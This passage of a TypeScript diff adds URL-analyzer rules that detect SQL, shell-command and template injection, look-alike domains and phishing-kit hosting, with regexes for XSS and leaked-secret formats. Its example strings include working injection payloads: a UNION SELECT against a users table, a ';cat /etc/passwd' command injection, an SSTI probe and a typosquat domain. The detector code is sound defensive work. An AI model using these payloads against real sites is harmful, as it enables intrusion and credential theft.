+      keywords: ['union', 'select', "'", 'sleep(', 'waitfor', 'information_schema', ';', '|', '`', '$(', '{{', '__class__', '<%', 'benchmark(', '&&'],
+      detect: (ctx) => {
+        if (CONTENT_SITES.has(ctx.u.site) || ctx.u.host === '') return null;
+        const parts: string[] = [];
+        for (const [k, v] of ctx.u.params) if (!SEARCH_KEYS.has(k) || ctx.owner === null) parts.push(v);
+        parts.push(ctx.u.path);
+        const t = parts.join('\n').toLowerCase().slice(0, 16384);
+        const sql = SQLI_UNION.exec(t) ?? SQLI_TAUT.exec(t) ?? SQLI_MISC.exec(t);
+        if (sql !== null) return { detail: `SQL injection "${sql[0].slice(0, 40)}"`, score: sql[0].includes('union') ? 7 : 6 };
+        const cmd = CMDI_SHAPE.exec(t);
+        if (cmd !== null) return { detail: `shell command injection "${cmd[0].slice(0, 40)}"`, score: 7 };
+        const tpl = SSTI_SHAPE.exec(t);
+        if (tpl !== null) return { detail: `template injection "${tpl[0].slice(0, 40)}"`, score: 6 };
+        return null;
+      },
+      examples: {
+        flag: ["https://shop.example.com/item?id=1' UNION SELECT username,password FROM users--", "https://example.com/product?id=1%27%20OR%20%271%27%3D%271", 'https://example.com/ping?host=8.8.8.8;cat /etc/passwd', 'https://example.com/hello?name={{7*7}}', 'https://example.com/?id=1 AND SLEEP(5)'],
+        pass: ['https://www.w3schools.com/sql/sql_union.asp', 'https://example.com/search?q=union+select+tutorial', "https://example.com/article/don't-panic", 'https://example.com/?a=1&b=2'],
+      },
+    },
+    {
+      id: 'U31',
+      name: 'Destination is not the site the task expects',
+      primitive: 'MANIPULATION',
+      score: 4,
+      detect: (ctx) => {
+        const want = metaString(ctx.metadata, 'expected_domain', 'expectedDomain', 'expected_host', 'expectedHost', 'intended_domain', 'allowed_domain', 'allowedDomain', 'site');
+        if (want === undefined || ctx.u.host === '') return null;
+        const w = parseUrl(cleanUrlText(want.toLowerCase()));
+        if (w.host === '' || w.site === ctx.u.site || w.domain === ctx.u.domain || ctx.u.host.endsWith(`.${w.host}`) || w.host === ctx.u.host) return null;
+        const typo = w.label.length >= 4 && (typoOf(ctx.u.label, w.label) !== null || foldTypoGlyphs(ctx.u.label).includes(w.label) || ctx.u.host.includes(w.label));
+        return { detail: `${ctx.u.host} instead of ${w.host}${typo ? ' (look-alike of the expected site)' : ''}`, score: typo ? 8 : 4 };
+      },
+      examples: {
+        flag: [{ value: 'https://paypa1.com/signin', metadata: { expected_domain: 'paypal.com' } }, { value: 'https://docs.evil.tld/', metadata: { expectedDomain: 'docs.python.org' } }],
+        pass: [{ value: 'https://www.paypal.com/signin', metadata: { expected_domain: 'paypal.com' } }, { value: 'https://docs.python.org/3/', metadata: { expected_domain: 'python.org' } }, 'https://paypal.com/'],
+      },
+    },
+    {
+      id: 'U32',
+      name: 'Phishing-kit hosting pattern',
+      primitive: 'MANIPULATION',
+      score: 4,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.host === '' || CONTENT_SITES.has(u.site)) return null;
+        const p = u.path.toLowerCase();
+        const page = PAGE_EXT.test(lastSegment(p)) || p.endsWith('/');
+        const victim = VICTIM_EMAIL.exec(`${u.fragment} ${u.query}`.slice(0, 4096));
+        const notes: string[] = [];
+        let score = 0;
+        if (p.startsWith('/ipfs/') || p.startsWith('/ipns/') || (u.host.includes('.ipfs.') && u.host.indexOf('.') >= 40) || u.suffix === 'ipfs.dweb.link' || u.site === 'dweb.link') {
+          score += 4;
+          notes.push('page pinned on IPFS (cannot be taken down)');
+        } else if ((STORAGE_HOSTS.has(u.host) || STORAGE_HOSTS.has(u.suffix) || u.host.endsWith('.blob.core.windows.net') || u.host.endsWith('.r2.dev')) && (p.endsWith('.html') || p.endsWith('.htm') || p.endsWith('.shtml') || p.endsWith('.svg'))) {
+          score += 3;
+          notes.push(`HTML page served from a storage bucket on ${u.host}`);
+        }
+        if (ctx.owner === null && ctx.pathBrand !== null && KIT_DIR.test(p)) {
+          score += 5;
+          notes.push(`"${ctx.pathBrand}" kit inside ${p.slice(0, 30)} of an unrelated site`);
+        }
+        if (victim !== null && ctx.owner === null && (page || score > 0 || ctx.brand !== null || ctx.pathLure !== null)) {
+          score += score > 0 || ctx.pathLure !== null || ctx.brand !== null ? 3 : 2;
+          notes.push('victim e-mail address pre-filled in the link');
+        }
+        return score > 0 ? { detail: notes.join('; '), score } : null;
+      },
+      examples: {
+        flag: ['https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/index.html#victim@example.com', 'https://firebasestorage.googleapis.com/v0/b/app-12.appspot.com/o/index.html?alt=media#user@corp.example', 'https://bakery.example.com/wp-content/plugins/x/office365/index.php', 'https://x.example.net/auth.html#am9obkBleGFtcGxlLmNvbQ==&email=john@example.com'],
+        pass: ['https://docs.ipfs.tech/concepts/what-is-ipfs/', 'https://storage.googleapis.com/my-bucket/data.csv', 'https://example.com/wp-content/uploads/2024/01/photo.jpg', 'https://example.com/unsubscribe?email=john@example.com'],
+      },
+    },
+  ],
+  auxPatterns,
 };
+
+const REDIRECT_KEYS = new Set([
+  'redirect', 'redirect_url', 'redirect_uri', 'redirecturl', 'redirecturi', 'redirect_to', 'redirectto', 'redir', 'next', 'return',
+  'return_url', 'returnurl', 'return_to', 'returnto', 'returnpath', 'goto', 'go', 'dest', 'destination', 'continue', 'target', 'forward',
+  'to', 'out', 'link', 'url', 'u', 'r', 'rurl', 'back', 'checkout_url', 'success_url', 'callback', 'callback_url', 'jump', 'view', 'page',
+  'ref', 'location', 'path', 'q', 'fwd', 'image_url', 'origin', 'login_url', 'logout', 'service', 'from_url', 'window', 'exit', 'navigate',
+]);
+const SEARCH_KEYS = new Set(['q', 'query', 'search', 's', 'term', 'keyword', 'keywords', 'text', 'comment', 'message', 'body']);
+
+const NOT_SCHEME_CHAR = aux(/[^a-z:]/g);
+const WS = aux(/\s/g);
+const MEDIA_END = aux(/[;,]/);
+const BACKSLASH = aux(/\\/g);
+const TLD_LIKE = aux(/^[a-z]{2,}(?:\/|$|:)/);
+const LEADING_SLASHES = aux(/^[\\/]{2}/);
+const BIDI_CHARS = aux(/[\u200e\u200f\u202a-\u202e\u2066-\u2069]/g);
+const DOLLAR_BRACE = aux(/\$\{/g);
+const VICTIM_EMAIL = aux(/(?:^|[#&=?\s])(?:email=|e=|login=|user=|u=)?[a-z0-9._%+-]{1,64}@[a-z0-9-]{1,63}\.[a-z0-9.-]{2,60}/);
+const KIT_DIR = aux(/\/(?:wp-content|wp-includes|wp-admin|\.well-known|cgi-bin|css|js|images|img|uploads|assets|vendor|tmp)\//);
+const JNDI_WRAP = aux(/\$\{(?:lower:|upper:|::-|[a-z]{1,8}:[a-z_]{0,20}:-)|\}/g);
+const SECRET_SHAPE = aux(/\b(?:A[KS]IA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{40,}|xox[abposr]-[A-Za-z0-9-]{10,}|sk_live_[0-9a-zA-Z]{16,}|sk-(?:proj-|ant-)?[A-Za-z0-9_-]{32,}|AIza[0-9A-Za-z_-]{35}|glpat-[A-Za-z0-9_-]{20}|npm_[A-Za-z0-9]{36})|-----BEGIN [A-Z ]{0,20}PRIVATE KEY/);
+const XSS_SHAPE = aux(/<\s{0,3}\/?(?:script|svg|img|iframe|body|details|object|embed|video|audio|math|style|input|marquee|frameset|isindex|a\s)|\bon(?:error|load|mouseover|focus|toggle|begin|animationstart|pointerover|mouseenter|blur)\s{0,5}=|javascript:[^\s]{0,40}[(`=]|document\.(?:cookie|domain)|\balert\s{0,3}[(`]|\bprompt\s{0,3}\([0-9'"]|srcdoc\s{0,3}=/);
+const SQLI_UNION = aux(/['")0-9][\s+]{0,10}union[\s+/*]{1,20}(?:all[\s+]{1,10})?select\b/);
+const SQLI_TAUT = aux(/'[\s+]{0,3}(?:or|and)[\s+]{1,5}'?[0-9a-z]{1,10}'?[\s+]{0,3}=[\s+]{0,3}'?[0-9a-z]{1,10}|[0-9'][\s+]{1,5}(?:or|and)[\s+]{1,5}[0-9]{1,5}[\s+]{0,3}=[\s+]{0,3}[0-9]{1,5}/);
+const SQLI_MISC = aux(/\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file)\s{0,3}\(|\bwaitfor[\s+]{1,5}delay\b|\binformation_schema\b|;[\s+]{0,3}(?:drop|delete|truncate|shutdown)[\s+]|'[\s+]{0,3}(?:--|#|\/\*)|\bxp_cmdshell\b/);
+const CMDI_SHAPE = aux(/(?:[;|`\n]|\$\(|&&)[\s+]{0,5}(?:cat|id|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|powershell|cmd|python3?|perl|rm|ls|echo|sleep)(?:[\s+;|`)]|$)/);
+const SSTI_SHAPE = aux(/\{\{[\s+]{0,3}(?:[0-9]{1,4}[\s+]{0,3}\*[\s+]{0,3}[0-9]{1,4}|config|self|request|cycler|joiner|lipsum|''|""|\[\])|__class__|__globals__|__subclasses__|__builtins__|<%=[\s+]{0,3}[0-9]{1,4}[\s+]{0,3}\*|\$\{[0-9]{1,4}\*[0-9]{1,4}\}|#\{[0-9]{1,4}\*[0-9]{1,4}\}|freemarker\.template|getruntime\(\)/);
+
+function secretKind(s: string): string {
+  if (s.startsWith('AKIA') || s.startsWith('ASIA')) return 'AWS access key id';
+  if (s.startsWith('gh') || s.startsWith('github_pat_')) return 'GitHub token';
+  if (s.startsWith('xox')) return 'Slack token';
+  if (s.startsWith('sk_live_')) return 'Stripe live secret key';
+  if (s.startsWith('sk-')) return 'AI API key';
+  if (s.startsWith('AIza')) return 'Google API key';
+  if (s.startsWith('glpat-')) return 'GitLab token';
+  if (s.startsWith('npm_')) return 'npm token';
+  return 'private key';
+}
+
 export default urlAnalyzer;
+
+function trimSlash(s: string): string {
+  return s.startsWith('/') ? s.slice(1) : s;
+}
